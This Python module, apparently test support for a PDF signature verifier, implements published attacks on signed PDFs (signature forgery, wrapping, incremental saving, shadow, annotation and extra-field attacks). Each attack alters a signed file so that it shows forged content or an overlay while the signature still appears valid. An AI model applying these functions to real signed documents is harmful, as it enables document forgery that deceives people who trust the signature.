"""A signed PDF turned against its reader: attacks of the literature, each a function of the signed file.

USF, SWA, ISA: "1 Trillion Dollar Refund" (CCS 2019). Shadow: "Shadow Attacks" (NDSS 2021). EAA, SSA: "Attacks on PDF
Certification" (S&P 2021). The page is object 5, its text object 3, its font object 4, as `support.pdf.pages` writes them.
"""

from __future__ import annotations

import re
from collections.abc import Callable

from support.pdf import add_update, stream

FORGED = stream(b"BT /F1 24 Tf 72 700 Td (Morphine) Tj ET")
PICTURE = stream(b"0 g 0 0 600 800 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 600 800]")
ROOT = b"/Root 1 0 R"


def find_object(signed: bytes, mark: bytes) -> tuple[int, bytes]:
    """The number and the body of the last object that holds this."""
    found = [each for each in re.finditer(rb"(\d+) 0 obj\n(.*?)\nendobj", signed, re.DOTALL) if mark in each[2]]
    return int(found[-1][1]), found[-1][2]


def change_signature(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    """An update with another version of the signature dictionary (USF)."""

    def attack(signed: bytes) -> bytes:
        number, body = find_object(signed, b"/ByteRange")
        changed = re.sub(old, new, body, count=1, flags=re.DOTALL)
        assert changed != body
        return add_update(signed, {number: changed}, ROOT)

    return attack


def in_place(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
    """Other bytes of the same length in the signature dictionary (USF)."""

    def attack(signed: bytes) -> bytes:
        changed = re.sub(old, lambda found: found.expand(new).ljust(len(found[0])), signed, count=1, flags=re.DOTALL)
        assert changed != signed
        return changed

    return attack


def update(*objects: tuple[int, bytes], trailer: bytes = ROOT) -> Callable[[bytes], bytes]:
    """An update with these objects (ISA, shadow attacks)."""
    return lambda signed: add_update(signed, dict(objects), trailer)


def change_object(mark: bytes, old: bytes, new: bytes, *more: tuple[int, bytes]) -> Callable[[bytes], bytes]:
    """An update with another version of an object, and new ones."""

    def attack(signed: bytes) -> bytes:
        number, body = find_object(signed, mark)
        assert old in body
        return add_update(signed, {number: body.replace(old, new, 1), **dict(more)}, ROOT)

    return attack


def without_table(signed: bytes) -> bytes:
    """A body alone behind the end: programs that repair files show it (ISA)."""
    return signed + b"3 0 obj\n" + FORGED + b"\nendobj\n"


def with_old_table(signed: bytes) -> bytes:
    """A body, and the signed file's own end once more (ISA)."""
    return without_table(signed) + signed[signed.rindex(b"startxref") :]


def with_table_of_its_own(signed: bytes) -> bytes:
    """A whole new file behind the signed one, with no way back to it, but with its signature (ISA)."""
    objects = {int(number): body for number, body in re.findall(rb"(\d+) 0 obj\n(.*?)\nendobj", signed, re.DOTALL)}
    return add_update(signed, objects | {3: FORGED}, ROOT, 0)


def wrap(signed: bytes) -> bytes:
    """The second range moves to the end; in between stand another signature dictionary and another table (SWA)."""
    number, body = find_object(signed, b"/ByteRange")
    found = re.search(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]", body)
    assert found
    start, end, rest = map(int, found.groups())
    table = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    moved = table + 40_000
    ranges = b"/ByteRange [0 %d %d %d]" % (start, moved, rest)
    objects = {number: re.sub(rb"/ByteRange \[[^\]]*\]", ranges, body), 3: FORGED}
    places = {int(each[1]): each.start() for each in re.finditer(rb"(\d+) 0 obj\n", signed[:end])}
    at, bodies = table + len(_write_table(places)), b""
    for changed, text in objects.items():
        places[changed] = at + len(bodies)
        bodies += b"%d 0 obj\n%s\nendobj\n" % (changed, text)
    gap = b" " * (table - end) + _write_table(places) + bodies
    return signed[:end] + gap.ljust(moved - end) + signed[end:]


def _write_table(places: dict[int, int]) -> bytes:
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % row for row in sorted(places.items()))
    return b"xref\n0 1\n0000000000 65535 f \n%strailer\n<< /Size 64 /Root 1 0 R >>\n" % rows


def with_annotation(signed: bytes) -> bytes:
    """A picture over the page, as an annotation (EAA)."""
    number, body = find_object(signed, b"/Parent 2 0 R")
    note = b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 600 800] /F 4 /AP << /N 91 0 R >> >>"
    page = re.sub(rb"/Annots (\[[^\]]*\])", rb"/Annots [90 0 R]", body)
    return add_update(signed, {number: page, 90: note, 91: PICTURE}, ROOT)


def with_field(value: bytes) -> Callable[[bytes], bytes]:
    """A new signature field that shows a picture over the page (SSA); `value`: its entry /V."""

    def attack(signed: bytes) -> bytes:
        form_number, form = find_object(signed, b"/SigFlags")
        page_number, page = find_object(signed, b"/Annots")
        field = (
            b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (New) /F 132 /P 5 0 R /Rect [0 0 600 800] "
            b"/AP << /N 91 0 R >> %s >>" % value
        )
        add = {
            form_number: re.sub(rb"/Fields \[([^\]]*)\]", rb"/Fields [\1 90 0 R]", form),
            page_number: re.sub(rb"/Annots \[([^\]]*)\]", rb"/Annots [\1 90 0 R]", page),
        }
        return add_update(signed, {**add, 90: field, 91: PICTURE, 92: b"<< /Type /Sig >>"}, ROOT)

    return attack
